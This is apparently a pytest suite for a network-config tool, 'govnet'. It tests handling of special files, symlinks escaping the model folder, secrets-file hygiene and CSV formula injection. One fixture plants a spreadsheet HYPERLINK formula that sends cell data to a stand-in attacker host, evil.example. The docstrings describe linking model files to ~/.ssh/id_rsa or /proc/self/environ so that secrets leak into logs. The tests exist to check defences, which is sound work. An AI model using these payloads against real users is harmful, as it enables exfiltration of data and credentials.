"""Issue 18: special files (FIFO, /dev/zero, directories, dangling or looping symlinks), missing model parts,
secrets handling and CSV formula injection. Each test fails on the code before the fix."""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from govnet.pipeline import validate
from govnet.records import ledger, write_records
from govnet.render.secrets import SecretsError, load_secrets

MINI = Path(__file__).resolve().parent / "fixtures" / "mini"


def _places(root: Path) -> list[tuple[str, str, str]]:
    return [(d.code, d.file, d.message) for d in validate(root).diagnostics]


# (10) and (13): what a path really is, instead of a hang, a MemoryError or "the model needs" ---------------------

def test_fifo_as_the_lock_is_refused_not_hung(model: Path) -> None:
    (model / "allocations.lock").unlink()
    os.mkfifo(model / "allocations.lock")
    found = [p for p in _places(model) if p[1] == "allocations.lock"]
    assert found and found[0][0] == "GN109" and "FIFO" in found[0][2], found


def test_dev_zero_as_the_lock_is_refused(model: Path) -> None:
    (model / "allocations.lock").unlink()
    os.symlink("/dev/zero", model / "allocations.lock")
    found = [p for p in _places(model) if p[1] == "allocations.lock"]
    assert found and found[0][0] == "GN109" and "character device" in found[0][2], found


def test_a_lock_saved_by_a_windows_editor_is_still_the_lock(model: Path) -> None:
    """Opening the lock in Notepad and saving it adds a byte-order mark and changes no entry: that gave 'cannot
    read lock entry "\\ufeff# allocations.lock: ..."' and 'edited by hand: its digest does not match' (GN628)."""
    lock = model / "allocations.lock"
    clean = _places(model)
    lock.write_bytes(b"\xef\xbb\xbf" + lock.read_bytes())
    assert _places(model) == clean and not [p for p in clean if p[1] == "allocations.lock"]


@pytest.mark.parametrize(("make", "words"), [
    (lambda p: os.mkfifo(p), "FIFO"),
    (lambda p: p.mkdir(), "directory"),
    (lambda p: os.symlink("nowhere.yaml", p), "dangling symlink"),
    (lambda p: os.symlink(p.name, p), "symlink loop"),
])
def test_city_file_that_is_not_a_file_says_what_it_is(model: Path, make: object, words: str) -> None:
    path = model / "topology" / "3612.yaml"
    make(path)  # type: ignore[operator]
    found = [p for p in _places(model) if p[1] == "topology/3612.yaml"]
    assert found, "nothing reported"
    code, _, message = found[0]
    assert code == "GN109" and words in message and "needs" not in message, found


def test_directory_named_like_a_registry_part_is_reported(model: Path) -> None:
    (model / "registry.d").mkdir()
    (model / "registry.d" / "3601.yaml").mkdir()
    assert [p[:2] for p in _places(model) if p[1].startswith("registry.d")] == [("GN109", "registry.d/3601.yaml")]


# (11) a model missing a part it had ---------------------------------------------------------------------------

def test_a_model_file_linked_outside_the_model_is_refused_unread(model: Path, tmp_path: Path) -> None:
    """A model from someone else's repository may link a city file to ~/.ssh/id_rsa or /proc/self/environ; the
    diagnostics of a file that is not YAML quote its first line, and CI logs are read by others. A link out of the
    model folder is GN109 naming its target, and nothing of the target's content reaches any diagnostic."""
    secret = tmp_path / "elsewhere" / "environ"
    secret.parent.mkdir()
    secret.write_text("GOVNET_SECRET_RADIUS_KEY=hunter2-do-not-print\n", encoding="utf-8")
    city = model / "topology" / "3602.yaml"
    city.unlink()
    city.symlink_to(secret)
    found = validate(model).diagnostics
    assert [(d.code, d.file) for d in found] == [("GN109", "topology/3602.yaml")]
    assert f"resolves to {secret}, outside the model folder" in found[0].message
    assert not any("hunter2" in f"{d.message} {d.hint}" for d in found)
    (model / "allocations.lock").unlink()
    (model / "allocations.lock").symlink_to(secret)
    assert ("GN109", "allocations.lock") in {(d.code, d.file) for d in validate(model).diagnostics}


def test_a_registry_edit_refuses_a_registry_linked_outside_the_model(model: Path, tmp_path: Path) -> None:
    """The registry commands read the file they edit before validation sees it: a link out of the model is an error
    naming its target, and the target is neither quoted nor written."""
    import datetime

    from govnet.registry.edit import EditError, transition

    secret = tmp_path / "environ"
    secret.write_text("GOVNET_SECRET_RADIUS_KEY=hunter2-do-not-print\n", encoding="utf-8")
    (model / "registry.yaml").unlink()
    (model / "registry.yaml").symlink_to(secret)
    with pytest.raises(EditError) as refused:
        transition(model, "MINI-0003", "approve", by="x", date=datetime.date(2024, 7, 1), document="y")
    assert f"resolves to {secret}, outside the model folder" in str(refused.value)
    assert "hunter2" not in str(refused.value)
    assert secret.read_text(encoding="utf-8") == "GOVNET_SECRET_RADIUS_KEY=hunter2-do-not-print\n"


def test_a_model_file_linked_inside_the_model_is_read(model: Path) -> None:
    """A link that stays inside the model folder (a city file kept in a shared folder of the model) is read."""
    shared = model / "shared"
    shared.mkdir()
    (model / "topology" / "3602.yaml").rename(shared / "3602.yaml")
    (model / "topology" / "3602.yaml").symlink_to(Path("..") / "shared" / "3602.yaml")
    result = validate(model)
    assert result.ok and result.model is not None and "360202001" in result.model.site_by_key


def test_deleted_policy_is_an_error(model: Path) -> None:
    (model / "zones" / "policy.yaml").unlink()
    result = validate(model)
    assert not result.ok
    assert ("GN110", "zones/policy.yaml") in [(d.code, d.file) for d in result.diagnostics]


def test_deleted_registry_is_a_warning(model: Path) -> None:
    (model / "registry.yaml").unlink()
    found = [(d.code, d.file, str(d.severity)) for d in validate(model).diagnostics]
    assert ("GN111", "registry.yaml", "warning") in found


# (5) secrets ----------------------------------------------------------------------------------------------------

def test_secrets_file_in_the_repository_outside_the_model_is_refused(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    root = repo / "provinces" / "jx"
    shutil.copytree(MINI, root)
    secrets = repo / "secrets.txt"
    secrets.write_text("snmp_community: s3cret\n", encoding="utf-8")
    secrets.chmod(0o600)
    with pytest.raises(SecretsError, match="git repository"):
        load_secrets(secrets, root, environ={})


def test_world_readable_secrets_file_is_warned(tmp_path: Path, model: Path) -> None:
    secrets = tmp_path / "secrets.txt"
    secrets.write_text("snmp_community: s3cret\n", encoding="utf-8")
    secrets.chmod(0o644)
    loaded = load_secrets(secrets, model, environ={})
    assert loaded.values == {"snmp_community": "s3cret"}
    assert loaded.warnings and "chmod 600" in loaded.warnings[0]
    secrets.chmod(0o600)
    assert load_secrets(secrets, model, environ={}).warnings == ()


def test_a_routing_key_the_comware_and_cisco_devices_refuse_is_refused_here(tmp_path: Path, model: Path) -> None:
    """routing_key keys OSPF with MD5 on every vendor, and Comware 7 and IOS XE take 1 to 16 characters: a longer
    key was rendered into every config without a word, and those devices refused the line (no adjacency)."""
    secrets = tmp_path / "secrets.txt"
    secrets.write_text("routing_key: " + "k" * 17 + "\n", encoding="utf-8")
    secrets.chmod(0o600)
    with pytest.raises(SecretsError, match=r"secrets.txt:1: secret routing_key has 17 characters; .* up to 16"):
        load_secrets(secrets, model, environ={})
    with pytest.raises(SecretsError, match="GOVNET_SECRET_ROUTING_KEY: secret routing_key has 20 characters"):
        load_secrets(None, model, environ={"GOVNET_SECRET_ROUTING_KEY": "r" * 20})
    sixteen = "r" * 16
    assert load_secrets(None, model, environ={"GOVNET_SECRET_ROUTING_KEY": sixteen}).values == {"routing_key": sixteen}
    # the other secrets keep the general limit of 128
    assert load_secrets(None, model, environ={"GOVNET_SECRET_RADIUS_KEY": "x" * 40}).values == {"radius_key": "x" * 40}

def test_a_secrets_file_saved_by_a_windows_editor_is_read_and_a_secret_set_twice_is_refused(
        tmp_path: Path, model: Path) -> None:
    """A byte-order mark (what Notepad writes at the top of a UTF-8 file) made line 1 'expected name: value'; a
    secret written twice (an operator adding the new key under the old one) silently took the last value; a byte
    that is not UTF-8 gave Python's decoder message without a line."""
    secrets = tmp_path / "secrets.txt"
    secrets.write_bytes(b"\xef\xbb\xbfrouting_key: Rout1key\nntp_key: Ntp1key\n")
    secrets.chmod(0o600)
    assert load_secrets(secrets, model, environ={}).values == {"routing_key": "Rout1key", "ntp_key": "Ntp1key"}
    secrets.write_text("routing_key: Old1key\nntp_key: Ntp1key\nrouting_key: New1key\n", encoding="utf-8")
    with pytest.raises(SecretsError, match=r"secrets.txt:3: secret routing_key is set again \(first on line 1\)"):
        load_secrets(secrets, model, environ={})
    for bom in (b"", b"\xef\xbb\xbf"):
        secrets.write_bytes(bom + b"ntp_key: Ntp1key\nradius_key: \xffRad1key\nrouting_key: R\xe9sum\xe9\n")
        with pytest.raises(SecretsError, match=r"secrets.txt:2: not UTF-8 text \(byte 0xff\)"):
            load_secrets(secrets, model, environ={})



def test_fifo_as_the_secrets_file_is_refused_not_hung(tmp_path: Path, model: Path) -> None:
    os.mkfifo(tmp_path / "secrets")
    with pytest.raises(SecretsError, match="FIFO"):
        load_secrets(tmp_path / "secrets", model, environ={})


def _govnet(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "govnet", *args], capture_output=True, text=True,
                          env={**os.environ, "NO_COLOR": "1", **(env or {})}, check=False, timeout=600)


def test_build_takes_secrets_and_writes_configs_0600(tmp_path: Path, model: Path) -> None:
    secrets = tmp_path / "secrets.txt"
    secrets.write_text("snmp_community: s3cret\nradius_key: k3y\nlocal_password: Pa55word!\n", encoding="utf-8")
    secrets.chmod(0o600)
    out = tmp_path / "out"
    done = _govnet("build", str(model), "-o", str(out), "--secrets", str(secrets))
    assert done.returncode == 0, done.stderr
    configs = sorted(out.rglob("*.cfg"))
    assert configs
    assert any("s3cret" in p.read_text(encoding="utf-8") for p in configs)
    assert {stat.S_IMODE(p.stat().st_mode) for p in configs} == {0o600}


# (4) CSV formula injection ---------------------------------------------------------------------------------------

def test_formulas_in_the_ledger_are_neutralised(model: Path, tmp_path: Path) -> None:
    registry = model / "registry.yaml"
    text = registry.read_text(encoding="utf-8")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    text = text.replace("lan: 核心交换机双机，约800个终端", "lan: '" + formula.replace("'", "''") + "'")
    text = text.replace("name: 江西省人力资源和社会保障厅", "name: '@SUM(1+1)*cmd'", 1)
    registry.write_text(text, encoding="utf-8")
    result = validate(model)
    assert result.ok and result.model is not None, [d.as_text() for d in result.diagnostics]
    write_records(result.model, tmp_path / "out", {})
    raw = (tmp_path / "out" / "records" / "ledger.csv").read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw)) for c in row]
    assert "'@SUM(1+1)*cmd" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    # XLSX: text cells are inline strings, never formulas
    book = openpyxl.load_workbook(tmp_path / "out" / "records" / "ledger.xlsx")
    names = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == "@SUM(1+1)*cmd"]
    assert names and all(c.data_type == "s" for c in names)


def test_csv_cell_leaves_ordinary_values_alone() -> None:
    assert ledger.csv_cell("0791-86000000") == "0791-86000000"
    assert ledger.csv_cell("江西省") == "江西省"
    assert ledger.csv_cell("-5") == "'-5"
    assert ledger.csv_cell(3) == 3
